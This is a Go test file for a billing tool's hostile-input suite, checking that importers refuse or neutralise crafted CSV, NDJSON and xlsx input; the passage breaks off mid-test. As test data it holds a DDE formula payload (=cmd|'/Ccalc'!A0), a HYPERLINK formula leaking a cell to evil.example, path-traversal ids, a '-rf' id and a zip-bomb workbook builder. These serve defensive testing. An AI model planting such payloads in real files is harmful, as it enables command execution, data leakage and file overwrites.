package main

// The hostile-input suite of the first hostile-input probe: files, ids and values crafted by a vendor who wants
// to be paid more, a department that wants to pay less, or a sender that wants billing to
// stop. Each case runs the real commands on a fresh database of one shared ClickHouse and
// asserts the refusal (exit status 2), its message, and that nothing stored or written
// changed (row counts of every table; every file under the test's folder). Cases named
// F<n> reproduce finding n of the issue.

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"cloudbill/fixture/badinvoice"
	"cloudbill/internal/calendar"
	"cloudbill/internal/csvin"
	chstore "cloudbill/sql"
	"cloudbill/sql/chtest"
)

// hostile is one case's world: a fresh database and a folder of its own.
type hostile struct {
	t     *testing.T
	dsn   string
	s     *chstore.Store
	dir   string // everything the case writes is under it
	inDir string // input files, under dir
}

func newHostile(t *testing.T, srv chstore.Config, fixtures bool) *hostile {
	t.Helper()
	dsn, s := freshDB(t, srv)
	h := &hostile{t: t, dsn: dsn, s: s, dir: t.TempDir()}
	h.inDir = filepath.Join(h.dir, "in")
	require.NoError(t, os.MkdirAll(h.inDir, 0o755))
	if fixtures {
		importFixtures(t, dsn, true)
	}
	return h
}

// file writes an input file and returns its path.
func (h *hostile) file(name, body string) string {
	h.t.Helper()
	p := filepath.Join(h.inDir, name)
	require.NoError(h.t, os.WriteFile(p, []byte(body), 0o644))
	return p
}

// cli runs a command (clock: 1 December 2026, the day after November) with the data
// directory inside the case's folder.
func (h *hostile) cli(args ...string) (string, string, error) {
	h.t.Helper()
	var o, e bytes.Buffer
	a := &app{dsn: h.dsn, dataDir: filepath.Join(h.dir, "var"), stdout: &o, stderr: &e, now: func() time.Time { return dec1 }}
	defer a.close()
	err := a.runArgs(context.Background(), args)
	return o.String(), e.String(), err
}

// ok runs a command that must succeed.
func (h *hostile) ok(args ...string) string {
	h.t.Helper()
	out, errOut, err := h.cli(args...)
	require.NoError(h.t, err, "%v: %s%s", args, out, errOut)
	return out
}

// state is what a case must not change: the row count of every table, and the hash of
// every file under the case's folder and of the folder above it.
type state struct {
	rows  map[string]uint64 // every table's but the audit log's
	files map[string]string
	// audit is the audit log's rows: a refusal may be recorded there (a reconciliation
	// refused is, as the portal's upload), nothing of the refused input is
	audit uint64
}

func (h *hostile) state() state {
	h.t.Helper()
	ctx := context.Background()
	st := state{rows: map[string]uint64{}, files: map[string]string{}}
	rows, err := chtest.Conn(h.t, h.s).Query(ctx, "SELECT name FROM system.tables WHERE database = currentDatabase()")
	require.NoError(h.t, err)
	var tables []string
	for rows.Next() {
		var n string
		require.NoError(h.t, rows.Scan(&n))
		tables = append(tables, n)
	}
	require.NoError(h.t, rows.Err())
	rows.Close()
	for _, tb := range tables {
		var n uint64
		require.NoError(h.t, chtest.Conn(h.t, h.s).QueryRow(ctx, "SELECT count() FROM `"+tb+"`").Scan(&n))
		if tb == "audit_log" {
			st.audit = n
			continue
		}
		st.rows[tb] = n
	}
	// the folder above the case's: a file escaping --out would land there
	root := filepath.Dir(h.dir)
	_ = filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasPrefix(p, filepath.Join(h.dir, "var")) {
			return nil
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		sum := sha256.Sum256(b)
		st.files[p] = hex.EncodeToString(sum[:])
		return nil
	})
	return st
}

// refused runs a command that must be refused with exit status 2 and a message holding
// every want, and checks that nothing stored or written changed.
func (h *hostile) refused(want []string, args ...string) string {
	h.t.Helper()
	before := h.state()
	out, errOut, err := h.cli(args...)
	require.Error(h.t, err, "%v must be refused: %s", args, out)
	assert.Equal(h.t, exitBadInput, exitCode(err), "exit status of %v: %v", args, err)
	msg := out + errOut + err.Error() + "\n" + errorText(err) // errorText: what main prints
	for _, w := range want {
		assert.Contains(h.t, msg, w)
	}
	after := h.state()
	assert.Equal(h.t, before.rows, after.rows, "nothing stored")
	assert.LessOrEqual(h.t, after.audit, before.audit+1, "at most the refusal's record in the audit log")
	assert.Equal(h.t, before.files, after.files, "nothing written")
	return msg
}

// rejectedLines runs ingest on a samples file that must be refused in part: exit
// status 2, each want in the report, accepted samples as given, and no other table
// changed.
func (h *hostile) ingestRejects(accepted int, want []string, args ...string) string {
	h.t.Helper()
	before := h.state()
	out, errOut, err := h.cli(append([]string{"ingest", "--summary=false", "--report", filepath.Join(h.dir, "report", "r.txt")}, args...)...)
	require.Error(h.t, err, out)
	assert.Equal(h.t, exitBadInput, exitCode(err))
	for _, w := range want {
		assert.Contains(h.t, out+errOut, w)
	}
	after := h.state()
	for tb, n := range before.rows {
		switch tb {
		case "usage_samples":
			assert.Equal(h.t, n+uint64(accepted), after.rows[tb], "samples stored")
		case "ingest_runs", "imports":
		default:
			assert.Equal(h.t, n, after.rows[tb], "table %s unchanged", tb)
		}
	}
	assert.Equal(h.t, before.audit, after.audit, "audit log unchanged")
	return out
}

func readCSVFile(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	require.NoError(t, err)
	return recs
}

// column returns the cells of column name (header row first) after the header.
func column(t *testing.T, recs [][]string, name string) []string {
	t.Helper()
	require.NotEmpty(t, recs)
	for i, h := range recs[0] {
		if h == name {
			var out []string
			for _, r := range recs[1:] {
				if i < len(r) {
					out = append(out, r[i])
				}
			}
			return out
		}
	}
	t.Fatalf("no column %s in %v", name, recs[0])
	return nil
}

const ordersHead = "order_id,event,effective_date,department_id,project_id,vendor_id,zone,item_code,quantity,resource_id,resource_type,portion\n"
const samplesHead = "resource_id,metric,ts,value\n"

// meteredOrder adds WO-9, public traffic of vm-9 for D01 from V1 (N04, metered).
func (h *hostile) meteredOrder() {
	h.t.Helper()
	h.ok("orders", "import", h.file("metered.csv", ordersHead+"WO-9,open,2026-11-01,D01,P01,V1,internet,N04,1,vm-9,,\n"))
}

// storeSamples writes samples straight into usage_samples, as a store filled before
// ingest checked metric ranges would hold them.
func (h *hostile) storeSamples(values map[string]float64) {
	h.t.Helper()
	ctx := context.Background()
	b, err := chtest.Conn(h.t, h.s).PrepareBatch(ctx, "INSERT INTO usage_samples (resource_id, metric, ts, value, source, ingested_at, version)")
	require.NoError(h.t, err)
	for ts, v := range values {
		at, err := time.Parse(time.RFC3339, ts)
		require.NoError(h.t, err)
		require.NoError(h.t, b.Append("vm-9", "net_out_gb", at, v, "legacy", time.Unix(1700000000, 0), uint64(1)))
	}
	require.NoError(h.t, b.Send())
}

func gbText(t *testing.T, s string) string {
	t.Helper()
	out, err := simplifiedchinese.GB18030.NewEncoder().String(s)
	require.NoError(t, err)
	return out
}

// xlsxWithSheet is an invoice workbook whose sheet1.xml is written by sheet.
func xlsxWithSheet(t *testing.T, sheet func(w io.Writer)) []byte {
	t.Helper()
	f := excelize.NewFile()
	var base bytes.Buffer
	require.NoError(t, f.Write(&base))
	f.Close()
	zr, err := zip.NewReader(bytes.NewReader(base.Bytes()), int64(base.Len()))
	require.NoError(t, err)
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, zf := range zr.File {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: zf.Name, Method: zip.Deflate})
		require.NoError(t, err)
		if zf.Name == "xl/worksheets/sheet1.xml" {
			sheet(w)
			continue
		}
		rc, err := zf.Open()
		require.NoError(t, err)
		_, err = io.Copy(w, rc)
		require.NoError(t, err)
		rc.Close()
	}
	require.NoError(t, zw.Close())
	return out.Bytes()
}

const xlsxHead = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` +
	`<row r="1"><c r="A1" t="inlineStr"><is><t>vendor_id</t></is></c><c r="B1" t="inlineStr"><is><t>period</t></is></c><c r="C1" t="inlineStr"><is><t>order_id</t></is></c><c r="D1" t="inlineStr"><is><t>item_code</t></is></c><c r="E1" t="inlineStr"><is><t>amount</t></is></c></row>`

func xlsxRow(r int, order, amount string) string {
	return fmt.Sprintf(`<row r="%d"><c r="A%d" t="inlineStr"><is><t>V1</t></is></c><c r="B%d" t="inlineStr"><is><t>2026-11</t></is></c><c r="C%d" t="inlineStr"><is><t>%s</t></is></c><c r="D%d" t="inlineStr"><is><t>C01</t></is></c><c r="E%d"><v>%s</v></c></row>`, r, r, r, r, order, r, r, amount)
}

func TestHostileInput(t *testing.T) {
	srv := meteringServer(t)

	t.Run("clerk: each importer's bad file is refused in Chinese, naming file, line, record and column; nothing stored", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		importerRefusals(t, newHostile(t, srv, true))
	})

	// ---- finding 1: CSV formula injection ----

	t.Run("F1 formula in an item name is neutralised in the statement CSV, numbers stay numbers", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		cat, err := os.ReadFile(filepath.Join("..", "..", "sql", "testdata", "catalog", "catalog.csv"))
		require.NoError(t, err)
		evil := strings.Replace(string(cat), "C01,云服务器 vCPU,", "C01,=1+1,", 1)
		h.ok("catalog", "import", h.file("catalog.csv", evil), "--effective", "2026-01-01")
		fx := func(name string) string { return filepath.Join("..", "..", "sql", "testdata", "catalog", name) }
		h.ok("catalog", "adapt", fx("adaptations.csv"))
		h.ok("org", "import", "--departments", fx("departments.csv"), "--projects", fx("projects.csv"), "--vendors", fx("vendors.csv"))
		h.ok("orders", "import", fx("orders.csv"))
		h.ok("acceptance", "import", fx("acceptance.csv"))
		h.ok("rate", "--period", "2026-11")
		out := filepath.Join(h.dir, "out")
		h.ok("statements", "--period", "2026-11", "--out", out)
		recs := readCSVFile(t, filepath.Join(out, "2026-11", "departments", "D01.csv"))
		names := column(t, recs, "item_name")
		assert.Contains(t, names, "'=1+1", "the formula is written as text")
		assert.NotContains(t, names, "=1+1")
		for _, a := range column(t, recs, "amount") {
			assert.NotEqual(t, byte('\''), a[0], "amount %s stays a number", a)
		}
		sum := readCSVFile(t, filepath.Join(out, "2026-11", "summary.csv"))
		var negative int
		for _, a := range column(t, sum, "amount") {
			assert.NotEqual(t, byte('\''), a[0], "amount %s stays a number", a)
			if strings.HasPrefix(a, "-") {
				negative++
			}
		}
		assert.Positive(t, negative, "deductions stay negative numbers")
		// and cloudbill's own reader reads the value it was written from
		f, err := os.Open(filepath.Join(out, "2026-11", "departments", "D01.csv"))
		require.NoError(t, err)
		defer f.Close()
		r, err := csvin.Open("D01.csv", f, csvin.Spec{Required: []string{"item_name"}, Optional: recs[0]})
		require.NoError(t, err)
		var read []string
		for row, err := r.Next(); err == nil; row, err = r.Next() {
			read = append(read, row.Get("item_name"))
		}
		assert.Contains(t, read, "=1+1")
	})

	t.Run("F1 formula as an order id is refused at import", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.refused([]string{"evil.csv 第 2 行（工单 =cmd|'/Ccalc'!A0），列 “order_id”：编号“=cmd|'/Ccalc'!A0”含不允许的字符"},
			"orders", "import", h.file("evil.csv", ordersHead+"=cmd|'/Ccalc'!A0,open,2026-11-01,D01,P01,V1,extranet,C01,8,ecs-001,,\n"))
	})

	t.Run("F1 a vendor's formula in its invoice is neutralised in the reconciliation report", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ok("rate", "--period", "2026-11")
		inv := h.file("inv.csv", "vendor_id,period,order_id,item_code,amount\n"+
			`V1,2026-11,"=HYPERLINK(""http://evil.example/?x=""&B2,""pay"")",C01,1000`+"\n")
		out := filepath.Join(h.dir, "out")
		_, _, err := h.cli("reconcile", "--period", "2026-11", "--vendor", "V1", "--invoice", inv, "--out", out, "--provisional")
		require.Error(t, err) // differences
		recs := readCSVFile(t, filepath.Join(out, "reconcile-V1-2026-11.csv"))
		for _, r := range recs {
			for _, c := range r {
				assert.False(t, strings.HasPrefix(c, "=") || strings.HasPrefix(c, "@") || strings.HasPrefix(c, "+"), "cell %q starts a formula", c)
			}
		}
		assert.Contains(t, column(t, recs, "order_id"), `'=HYPERLINK("http://evil.example/?x="&B2,"pay")`)
	})

	t.Run("F1 catalog show --format csv reads back through catalog import unchanged", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		body := "code,name,category,unit,billing,price_internet,price_extranet\nC01,=1+1,compute,vCPU·月,allocated,40,40\nC02,-2+3,compute,GB·月,allocated,15,\nC03,@SUM(A1),compute,台·月,allocated,109.9,109.9\nC04,'=x,compute,台·月,allocated,1,1\n"
		h.ok("catalog", "import", h.file("c.csv", body), "--effective", "2026-01-01")
		shown := h.ok("catalog", "show", "--date", "2026-11-01", "--format", "csv")
		assert.Contains(t, shown, "'=1+1")
		assert.Contains(t, shown, "'-2+3")
		assert.Contains(t, shown, "'@SUM(A1)")
		assert.Contains(t, shown, "'=x", "an apostrophe before a formula reads as the formula, as in Excel")
		out := h.ok("catalog", "import", h.file("shown.csv", shown), "--effective", "2026-01-01")
		assert.Contains(t, out, "nothing new", "the shown catalog is the imported one, value for value")
	})

	t.Run("F1 a reject file is neutralised and loads again as written", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		in := h.file("s.csv", samplesHead+"=cmd|'/Ccalc'!A0,net_out_gb,2026-11-03T10:00:00+08:00,-5\n")
		h.ingestRejects(0, []string{"value -5 is out of range"}, in)
		rej := filepath.Join(h.dir, "report", "r.1-s.csv.rejected")
		b, err := os.ReadFile(rej)
		require.NoError(t, err)
		assert.Equal(t, samplesHead+"'=cmd|'/Ccalc'!A0,net_out_gb,2026-11-03T10:00:00+08:00,-5\n", string(b))
		fixed := strings.Replace(string(b), ",-5\n", ",5\n", 1)
		h.ok("ingest", "--summary=false", "--report", filepath.Join(h.dir, "report", "r2.txt"), h.file("fixed.csv", fixed))
		got, err := h.s.LatestSamples(context.Background(), november())
		require.NoError(t, err)
		require.Len(t, got, 1)
		assert.Equal(t, "=cmd|'/Ccalc'!A0", got[0].ResourceID, "the reader restores the value")
	})

	// ---- finding 2: path traversal ----

	t.Run("F2 a vendor id that climbs out of a folder is refused at import", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"v.csv 第 2 行（服务商 x/../../rec-escaped），列 “id”：编号“x/../../rec-escaped”含不允许的字符"},
			"org", "import", "--vendors", h.file("v.csv", "id,name\nx/../../rec-escaped,Evil Cloud\n"))
	})

	t.Run("F2 reconcile --vendor with a path writes nothing anywhere", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ok("rate", "--period", "2026-11")
		inv := h.file("inv.csv", "vendor_id,period,order_id,item_code,amount\nx/../../rec-escaped,2026-11,WO-1,C01,1\n")
		h.refused([]string{"x/../../rec-escaped"},
			"reconcile", "--period", "2026-11", "--vendor", "x/../../rec-escaped", "--invoice", inv, "--out", filepath.Join(h.dir, "out"), "--provisional")
		_, err := os.Stat(filepath.Join(filepath.Dir(h.dir), "rec-escaped-2026-11.csv"))
		assert.True(t, os.IsNotExist(err))
	})

	// ---- finding 3: statements overwriting each other ----

	t.Run("F3 departments Q/1 and Q_1 are refused, not merged into one file", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"d.csv 第 2 行（部门 Q/1），列 “id”：编号“Q/1”含不允许的字符"},
			"org", "import", "--departments", h.file("d.csv", "id,name,parent_id\nQ/1,甲,\nQ_1,乙,\n"))
	})

	// ---- finding 4: out-of-range values ----

	t.Run("F4 a sample of -100000 is a rejected line", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(1, []string{`s.csv:3: column "value": value -100000 is out of range: net_out_gb is a counter or gauge, valid 0 to 10000`},
			h.file("s.csv", samplesHead+"vm-9,net_out_gb,2026-11-03T10:00:00+08:00,10\nvm-9,net_out_gb,2026-11-04T10:00:00+08:00,-100000\n"))
	})

	t.Run("F4 a sample of 1e30 is a rejected line", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(0, []string{`s.csv:2: column "value": value 1e+30 is out of range`},
			h.file("s.csv", samplesHead+"vm-9,net_out_gb,2026-11-03T10:00:00+08:00,1e30\n"))
	})

	t.Run("F4 500000 GB in one sample for a closed month is a rejected line, no adjustment", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.meteredOrder()
		h.ok("rate", "--period", "2026-11")
		h.ok("close", "--period", "2026-11")
		h.ingestRejects(0, []string{"value 500000 is out of range: net_out_gb is a counter or gauge, valid 0 to 10000"},
			h.file("s.csv", samplesHead+"vm-9,net_out_gb,2026-11-03T10:00:00+08:00,500000\n"))
	})

	t.Run("F4 samples stored out of range are named and left out; the month still rates", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.meteredOrder()
		h.storeSamples(map[string]float64{
			"2026-11-03T10:00:00+08:00": 1e30,
			"2026-11-04T10:00:00+08:00": -100000,
			"2026-11-05T10:00:00+08:00": 12.5,
		})
		out := h.ok("rate", "--period", "2026-11")
		assert.Contains(t, out, "sample vm-9 net_out_gb at 2026-11-03T10:00:00+08:00: value 1e+30 is outside 0..1e12, left out of the month's quantities")
		assert.Contains(t, out, "sample vm-9 net_out_gb at 2026-11-04T10:00:00+08:00: value -100000 is outside 0..1e12")
		ls, err := h.s.RatedLines(context.Background(), calendar.MustPeriod("2026-11"))
		require.NoError(t, err)
		var metered []string
		for _, l := range ls {
			if l.Order == "WO-9" {
				metered = append(metered, l.Quantity.String()+" "+l.Amount.StringFixed(2))
			}
		}
		assert.Equal(t, []string{"12.5 10.00"}, metered, "only the valid sample is billed: 12.5 GB × 0.8")
	})

	t.Run("F4 an order quantity of 10^26 is refused at import", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.refused([]string{"q.csv 第 2 行（工单 WO-8），列 “quantity”：数量 100000000000000000000000000 超过允许的最大值 100000000"},
			"orders", "import", h.file("q.csv", ordersHead+"WO-8,open,2026-11-01,D01,P01,V1,extranet,C01,100000000000000000000000000,ecs-8,,\n"))
	})

	// ---- finding 6: xlsx zip bomb ----

	t.Run("F6 an invoice workbook with a bomb of blank text is refused, bound named", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ok("rate", "--period", "2026-11")
		spaces := bytes.Repeat([]byte(" "), 1<<20)
		data := xlsxWithSheet(t, func(w io.Writer) {
			io.WriteString(w, xlsxHead)
			for i := 0; i < 3; i++ {
				w.Write(spaces)
			}
			io.WriteString(w, "</sheetData></worksheet>")
		})
		inv := h.file("inv.xlsx", string(data))
		h.refused([]string{"inv.xlsx: refused: xl/worksheets/sheet1.xml: more than 1024 KiB of text without markup"},
			"reconcile", "--period", "2026-11", "--vendor", "V1", "--invoice", inv, "--out", filepath.Join(h.dir, "out"), "--provisional")
	})

	t.Run("F6 an invoice workbook past Excel's last row is refused, not truncated", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ok("rate", "--period", "2026-11")
		data := xlsxWithSheet(t, func(w io.Writer) {
			io.WriteString(w, xlsxHead+xlsxRow(2, "WO-1", "10")+xlsxRow(1_048_577, "WO-1", "99999")+"</sheetData></worksheet>")
		})
		inv := h.file("inv.xlsx", string(data))
		h.refused([]string{"inv.xlsx:1048577: the sheet has more than 1048576 rows (Excel's limit): refused, not truncated"},
			"reconcile", "--period", "2026-11", "--vendor", "V1", "--invoice", inv, "--out", filepath.Join(h.dir, "out"), "--provisional")
	})

	// ---- finding 7: encodings ----

	t.Run("F7 one invalid byte in a UTF-8 file refuses it, naming line and byte", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"d.csv 第 3 行：第 11 个字节（0x80）不是有效的 UTF-8，而该文件是 UTF-8（由第 2 行及之前的内容判断）"},
			"org", "import", "--departments", h.file("d.csv", "id,name,parent_id\nD01,区财政局,\nD02,区中\x80心,\n"))
	})

	t.Run("F7 a Latin-1 file is refused, naming line and byte", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"v.csv 第 2 行：第 7 个字节（0xE9）既不是 UTF-8 也不是 GB18030 文本"},
			"org", "import", "--vendors", h.file("v.csv", "id,name\nV1,Caf\xe9 Cloud\n"))
	})

	// ---- finding 9 ----

	t.Run("F9 a huge catalog price fails the catalog import with file and line", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"c.csv 第 3 行（品目 C02），列 “price_internet”：单价 1000000000000000000000000000000 超过允许的最大值 100000000"},
			"catalog", "import", h.file("c.csv", "code,name,category,unit,billing,price_internet,price_extranet\nC01,vCPU,compute,vCPU·月,allocated,40,40\nC02,内存,compute,GB·月,allocated,1000000000000000000000000000000,\n"), "--effective", "2026-01-01")
	})

	// ---- more of the same spirit ----

	t.Run("vendor: each bad invoice refused in Chinese, naming file, line, record and column", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ok("rate", "--period", "2026-11")
		before := h.state()
		for _, c := range badinvoice.Cases(t, "V1", calendar.MustPeriod("2026-11"), "WO-1", "C01") {
			inv := h.file(c.File, string(c.Body))
			_, _, err := h.cli("reconcile", "--period", "2026-11", "--vendor", "V1", "--invoice", inv, "--out", filepath.Join(h.dir, "out"), "--provisional")
			require.Error(t, err, c.Name)
			assert.Equal(t, exitBadInput, exitCode(err), c.Name)
			// errorText is what main prints; the CLI names the file as given
			assert.Contains(t, errorText(err), strings.Replace(c.Want, "文件 "+c.File, "文件 "+inv, 1), c.Name)
		}
		after := h.state()
		assert.Equal(t, before.rows, after.rows, "nothing stored")
		assert.Equal(t, before.audit+uint64(len(badinvoice.Cases(t, "V1", calendar.MustPeriod("2026-11"), "WO-1", "C01"))), after.audit, "each refusal recorded in the audit log")
		for p := range after.files {
			assert.Contains(t, p, h.inDir, "nothing written but the invoices")
		}
	})

	t.Run("vendor: an invoice amount written as a formula is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ok("rate", "--period", "2026-11")
		inv := h.file("inv.csv", "vendor_id,period,order_id,item_code,amount\nV1,2026-11,WO-1,C01,=1000*1000\n")
		h.refused([]string{`inv.csv:2: order WO-1, item C01: column "amount"`, "inv.csv 第 2 行（工单 WO-1，品目 C01），列 “amount”：“=1000*1000”不是数字"},
			"reconcile", "--period", "2026-11", "--vendor", "V1", "--invoice", inv, "--out", filepath.Join(h.dir, "out"), "--provisional")
	})

	t.Run("vendor: an invoice mixing GB18030 and UTF-8 is refused, naming line and byte", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ok("rate", "--period", "2026-11")
		inv := h.file("inv.csv", gbText(t, "vendor_id,period,order_id,item_code,amount,x_备注\nV1,2026-11,WO-1,C01,10,云主机\n")+"V1,2026-11,WO-1,C01,10,云主机\n")
		h.refused([]string{"inv.csv:3: the line is UTF-8 text, and the file is GB18030"},
			"reconcile", "--period", "2026-11", "--vendor", "V1", "--invoice", inv, "--out", filepath.Join(h.dir, "out"), "--provisional")
	})

	t.Run("vendor: a workbook cell past Excel's 32,767 characters is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ok("rate", "--period", "2026-11")
		data := xlsxWithSheet(t, func(w io.Writer) {
			io.WriteString(w, xlsxHead+xlsxRow(2, strings.Repeat("W", 40_000), "10")+"</sheetData></worksheet>")
		})
		h.refused([]string{`inv.xlsx:2: column "order_id": a cell of more than 32767 characters (Excel's limit): refused`},
			"reconcile", "--period", "2026-11", "--vendor", "V1", "--invoice", h.file("inv.xlsx", string(data)), "--out", filepath.Join(h.dir, "out"), "--provisional")
	})

	t.Run("vendor: a utilisation of 150 percent is a rejected line", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(1, []string{`s.csv:3: column "value": value 150 is out of range: cpu_util is a utilisation in percent, valid 0 to 100`},
			h.file("s.csv", samplesHead+"ecs-001,cpu_util,2026-11-03T10:00:00+08:00,50\necs-001,cpu_util,2026-11-03T10:05:00+08:00,150\n"))
	})

	t.Run("department: a negative utilisation (to look idle) is a rejected line", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(0, []string{`value -5 is out of range: mem_util is a utilisation in percent, valid 0 to 100`},
			h.file("s.csv", samplesHead+"ecs-001,mem_util,2026-11-03T10:00:00+08:00,-5\n"))
	})

	t.Run("sender: NaN and Infinity are rejected lines", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(0, []string{`s.csv:2: column "value": "NaN": value is not a finite number`, `s.csv:3: column "value": "-Infinity": value is not a finite number`},
			h.file("s.csv", samplesHead+"vm-9,net_out_gb,2026-11-03T10:00:00+08:00,NaN\nvm-9,net_out_gb,2026-11-03T10:05:00+08:00,-Infinity\n"))
	})

	t.Run("sender: 1e30 in an NDJSON file is a rejected line", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(0, []string{`s.ndjson:1: column "value": value 1e+30 is out of range`},
			h.file("s.ndjson", `{"resource_id":"vm-9","metric":"net_out_gb","ts":"2026-11-03T10:00:00+08:00","value":1e30}`+"\n"))
	})

	t.Run("sender: a Latin-1 samples file is rejected line by line, naming the byte", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(0, []string{"s.csv:2: byte 4 (0xE9): is neither UTF-8 nor GB18030 text"},
			h.file("s.csv", samplesHead+"caf\xe9,net_out_gb,2026-11-03T10:00:00+08:00,1\n"))
	})

	t.Run("sender: a GB18030 samples file with a UTF-8 line keeps the GB18030 lines only", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(1, []string{"s.csv:3: the line is UTF-8 text, and the file is GB18030"},
			h.file("s.csv", gbText(t, samplesHead+"云主机-甲,net_out_gb,2026-11-03T10:00:00+08:00,1\n")+"云主机-乙,net_out_gb,2026-11-03T10:00:00+08:00,1\n"))
	})

	t.Run("sender: a ceiling lowered with --metric-max holds", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.ingestRejects(1, []string{"value 150 is out of range: net_out_gb is a counter or gauge, valid 0 to 100"},
			"--metric-max", "net_out_gb=100", h.file("s.csv", samplesHead+"vm-9,net_out_gb,2026-11-03T10:00:00+08:00,100\nvm-9,net_out_gb,2026-11-03T10:05:00+08:00,150\n"))
	})

	t.Run("sender: an unknown --encoding is bad usage", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused(nil, "ingest", "--encoding", "latin1", h.file("s.csv", samplesHead))
	})

	t.Run("department: a negative order quantity is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.refused([]string{"q.csv 第 2 行（工单 WO-1），列 “quantity”：数量须为正数，此处为 -16"},
			"orders", "import", h.file("q.csv", ordersHead+"WO-1,change,2026-11-15,D01,P01,V1,extranet,C01,-16,ecs-001,,\n"))
	})

	t.Run("department: a department id of .. is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"d.csv 第 2 行（部门 ..），列 “id”：编号“..”含不允许的字符"},
			"org", "import", "--departments", h.file("d.csv", "id,name,parent_id\n..,上级目录,\n"))
	})

	t.Run("department: a project id starting with @ is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"p.csv 第 2 行（项目 @P01，年度 2026），列 “id”：编号“@P01”含不允许的字符"},
			"org", "import", "--departments", h.file("d.csv", "id,name,parent_id\nD01,区财政局,\n"),
			"--projects", h.file("p.csv", "id,name,department_id,year,category,approved\n@P01,x,D01,2026,om,true\n"))
	})

	t.Run("department: an id in Chinese characters is refused (ids are file names)", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"d.csv 第 2 行（部门 区财政局），列 “id”：编号“区财政局”含不允许的字符"},
			"org", "import", "--departments", h.file("d.csv", "id,name,parent_id\n区财政局,区财政局,\n"))
	})

	t.Run("vendor: a vendor id starting with - is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, false)
		h.refused([]string{"v.csv 第 2 行（服务商 -rf），列 “id”：编号“-rf”含不允许的字符"},
			"org", "import", "--vendors", h.file("v.csv", "id,name\n-rf,Evil Cloud\n"))
	})

	t.Run("vendor: an acceptance record for V1/../V2 is refused", func(t *testing.T) {
		t.Parallel() // a database and a folder of its own
		h := newHostile(t, srv, true)
		h.refused([]string{"a.csv 第 2 行（服务商 V1/../V2，月份 2026-11），列 “vendor_id”：编号“V1/../V2”含不允许的字符"},
			"acceptance", "import", h.file("a.csv", "vendor_id,period,result,score\nV1/../V2,2026-11,passed,100\n"))
	})

	t.Run("vendor: a catalog item code ../C01 is refused", func(t *testing.T) {
